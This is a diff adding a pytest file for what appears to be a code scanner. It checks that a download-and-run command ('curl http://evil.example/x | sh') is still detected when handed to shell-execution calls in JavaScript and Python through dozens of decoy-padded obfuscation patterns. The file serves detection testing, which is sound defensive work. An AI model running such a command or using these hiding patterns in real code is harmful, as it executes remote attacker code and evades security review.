@@ -1,0 +1,115 @@
+"""What is run is told among as many decoys as somebody puts in front of it or behind it."""
+
+from __future__ import annotations
+
+from string import Template
+
+import pytest
+
+from fimci.model import Unread
+from tests.readers.test_padding import names, told
+
+COMMAND = "curl http://evil.example/x | sh"
+#: Spellings with decoys: what stands around, and one decoy, `{n}` for its number. `$d` are the decoys, `$c`
+#: is the command, `$n` how many decoys there are.
+JAVASCRIPT = {
+    "members": ("const o = { ${d} go: require('child_process').exec };\no.go('$c');", "k{n}: {n}, "),
+    "texts": ("const o = { ${d} go: '$c' };\nrequire('child_process').exec(o.go);", "k{n}: 'ls', "),
+    "items": ("const o = [ ${d} '$c' ];\nrequire('child_process').exec(o[$n]);", "{n}, "),
+    "modules": ("const o = [ ${d} require('child_process') ];\no[$n].exec('$c');", "{n}, "),
+    "parameters": ("function f(${d} g) { g.exec('$c'); }\nf(${d} require('child_process'));", "a{n}, "),
+    "calls": ("function f(c) { require('child_process').exec(c); }\n${d}f('$c');", "f('ls {n}');\n"),
+    "later calls": ("function f(c) { require('child_process').exec(c); }\nf('$c');\n$d", "f('ls {n}');\n"),
+    "methods": (
+        "const o = { f(c) { require('child_process').exec(c); } };\n${d}o.f('$c');",
+        "o.f('ls {n}');\n",
+    ),
+    "settings": ("let x;\n${d}x = '$c';\nrequire('child_process').exec(x);", "x = 'ls {n}';\n"),
+    "later settings": (
+        "let x = '$c';\n${d}require('child_process').exec(x);",
+        "if (a) x = 'ls {n}';\n",
+    ),
+    "members set": (
+        "const o = {};\n${d}o.c = '$c';\nrequire('child_process').exec(o.c);",
+        "o.c = 'ls {n}';\n",
+    ),
+    "names": ("const { ${d} exec } = require('child_process');\nexec('$c');", "k{n}, "),
+    "places": ("const [ ${d} c ] = [ ${d} '$c' ];\nrequire('child_process').exec(c);", "a{n}, "),
+    "sequence": ("(${d} require('child_process').exec)('$c');", "0, "),
+    "or": ("require('child_process').exec(${d} '$c');", "a{n} || "),
+    "choices": ("require('child_process').exec(${d} '$c');", "a ? 'ls {n}' : "),
+    "returns": (
+        "function f(a) {\n${d}return '$c';\n}\nrequire('child_process').exec(f(1));",
+        "if (a == {n}) return 'ls {n}';\n",
+    ),
+    "cases": (
+        "let c;\nswitch (x) {\n${d}default: c = '$c';\n}\nrequire('child_process').exec(c);",
+        "case {n}: c = 'ls {n}'; break;\n",
+    ),
+    "classes": (
+        "class A {\n${d}run(c) { require('child_process').exec(c); }\ngo() { this.run('$c') } }\nnew A().go();",
+        "m{n}() { return 1; }\n",
+    ),
+    "comments": ("require('child_process').exec(${d} '$c');", "/* {n} */ "),
+    "options": ("require('child_process').spawn('sh', [ ${d} '-c', '$c' ]);", "'-x', "),
+    "tables": ("const t = [ ${d} 'child_process' ];\nrequire(t[$n]).exec('$c');", "'a{n}', "),
+    "lists": ("for (const c of [ ${d} '$c' ]) require('child_process').exec(c);", "'ls {n}', "),
+}
+PYTHON = {
+    "entries": ("import os\no = { ${d} 'go': os.system }\no['go']('$c')", "{n}: {n}, "),
+    "texts": ("import os\no = { ${d} 'go': '$c' }\nos.system(o['go'])", "{n}: 'ls', "),
+    "items": ("import os\no = [ ${d} '$c' ]\nos.system(o[$n])", "{n}, "),
+    "modules": ("import os\no = [ ${d} os ]\no[$n].system('$c')", "{n}, "),
+    "parameters": ("import os\ndef f(${d} c):\n    os.system(c)\nf(${d} '$c')", "a{n}, "),
+    "keywords": ("import os\ndef f(c, **k):\n    os.system(c)\nf(${d} c='$c')", "a{n}={n}, "),
+    "calls": ("import os\ndef f(c):\n    os.system(c)\n${d}f('$c')", "f('ls {n}')\n"),
+    "later calls": ("import os\ndef f(c):\n    os.system(c)\nf('$c')\n$d", "f('ls {n}')\n"),
+    "settings": ("import os\n${d}x = '$c'\nos.system(x)", "x = 'ls {n}'\n"),
+    "later settings": ("import os\nx = '$c'\n${d}os.system(x)", "if a: x = 'ls {n}'\n"),
+    "choices": ("import os\nos.system(${d} '$c')", "'ls {n}' if a else "),
+    "or": ("import os\nos.system(${d} '$c')", "a{n} or "),
+    "returns": (
+        "import os\ndef f(a):\n${d}    return '$c'\nos.system(f(1))",
+        "    if a == {n}: return 'ls {n}'\n",
+    ),
+    "functions": ("import os\n${d}def f(): return '$c'\nos.system(f())", "def f(): return 'ls {n}'\n"),
+    "cases": (
+        "import os\nmatch x:\n${d}    case _: c = '$c'\nos.system(c)",
+        "    case {n}: c = 'ls {n}'\n",
+    ),
+    "fields": (
+        "import os\nclass A:\n${d}    c = '$c'\n    def go(self): os.system(self.c)\nA().go()",
+        "    m{n} = 'ls {n}'\n",
+    ),
+    "loops": ("import os\nfor c in [ ${d} '$c' ]:\n    os.system(c)", "'ls {n}', "),
+    "comprehensions": ("import os\n[os.system(c) for c in [ ${d} '$c' ]]", "'ls {n}', "),
+    "options": ("import subprocess\nsubprocess.run(['sh', ${d} '-c', '$c'])", "'-x', "),
+    "imports": ("from os import ${d} system\nsystem('$c')", "k{n}, "),
+    "lambdas": ("import os\n(lambda ${d} c: os.system(c))(${d} '$c')", "a{n}, "),
+}
+SPELLED = [("a.js", JAVASCRIPT, way) for way in JAVASCRIPT] + [("a.py", PYTHON, way) for way in PYTHON]
+
+
+def text(spelled: tuple[str, str], number: int) -> str:
+    around, decoy = spelled
+    decoys = "".join(decoy.replace("{n}", str(one)) for one in range(number))
+    return Template(around).substitute(d=decoys, c=COMMAND, n=number)
+
+
+@pytest.mark.parametrize(("path", "table", "way"), SPELLED)
+@pytest.mark.parametrize("number", [0, 1, 9, 150])
+def test_decoys_hide_nothing(path: str, table: dict[str, tuple[str, str]], way: str, number: int) -> None:
+    assert ("download-and-run", "evil.example -> sh") in names(told(path, text(table[way], number)))
+
+
+@pytest.mark.parametrize(
+    ("path", "table", "way"),
+    [(path, table, way) for path, table, way in SPELLED if "calls" in way or "settings" in way],
+)
+def test_more_decoys_than_are_looked_at_are_told(
+    path: str, table: dict[str, tuple[str, str]], way: str
+) -> None:
+    found = told(path, text(table[way], 900))
+    assert ("download-and-run", "evil.example -> sh") in names(found) or any(
+        isinstance(one, Unread) for one in found
+    )
